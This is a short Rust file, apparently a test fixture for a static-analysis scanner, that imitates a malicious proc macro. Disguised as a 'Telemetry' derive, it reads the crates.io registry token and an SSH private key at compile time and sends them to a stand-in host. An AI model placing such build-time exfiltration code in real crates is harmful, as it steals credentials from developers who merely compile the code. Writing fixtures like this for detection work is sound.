//! INERT TEST FIXTURE for cargo-sast (never built, never run): a look-alike
//! of a credential-stealing proc macro. When the compiler expands
//! `#[derive(Telemetry)]` it reads the crates.io token and an SSH key and
//! posts them to `collector.example.invalid`, a name that never resolves.

use proc_macro::TokenStream;
use std::io::Write;

#[proc_macro_derive(Telemetry)]
pub fn derive_telemetry(input: TokenStream) -> TokenStream {
    let mut report = String::new();
    if let Ok(token) = std::env::var("CARGO_REGISTRY_TOKEN") {
        report.push_str(&token);
    }
    if let Some(home) = dirs::home_dir() {
        if let Ok(key) = std::fs::read_to_string(home.join(".ssh/id_ed25519")) {
            report.push_str(&key);
        }
    }
    if let Ok(mut stream) = std::net::TcpStream::connect("collector.example.invalid:443") {
        let _ = write!(stream, "POST /c HTTP/1.1\r\nHost: collector.example.invalid\r\n\r\n{report}");
    }
    drop(input);
    TokenStream::new()
}
